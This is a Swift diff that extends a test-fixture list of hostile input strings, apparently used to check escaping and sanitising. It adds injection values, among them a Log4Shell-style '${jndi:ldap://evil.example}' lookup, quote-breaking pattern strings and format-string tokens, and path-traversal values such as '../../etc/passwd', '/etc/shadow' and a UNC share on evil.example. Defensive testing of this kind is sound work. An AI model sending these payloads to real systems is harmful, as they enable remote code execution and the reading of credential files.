@@ -21,8 +21,17 @@ enum HostileText {
         "[x](javascript:alert(1))", "![x](http://evil.example/a.png)", "**bold** `code`", "# heading", "> quote",
         "| a | b |", "http://evil.example", "www.evil.example", "1. item", "- item", "a\n\n<b>", "~~x~~", "\\*",
     ]
+    static let injection = [
+        "x' OR [file:name = 'y", #"x\' OR [file:name = 'y"#, #"back\\slash\"#, "'", "\"", "\u{2019}\u{201C}",
+        "a'] OR ['b",
+        "x\" - T0000\", tlp:clear=\"", "T1059\"\nmisp-galaxy:mitre-tool=\"x", "${jndi:ldap://evil.example}", "%s%n%00",
+        "{\"a\": 1}", "one\ntwo\r\nthree", "a\u{2028}b\u{2029}c",
+    ]
+    static let paths = [
+        "../../etc/passwd", #"..\..\windows\win.ini"#, "/etc/shadow", #"\\evil.example\share\x"#, "C:", "NUL", ".",
+    ]
     /// All of them, one after another.
-    static let everything = (markup + formulas + terminal + reordering + markdown).joined(separator: " ")
+    static let everything = all.joined(separator: " ")
     /// Each of them alone.
-    static let all = markup + formulas + terminal + reordering + markdown
+    static let all = markup + formulas + terminal + reordering + markdown + injection + paths
 }
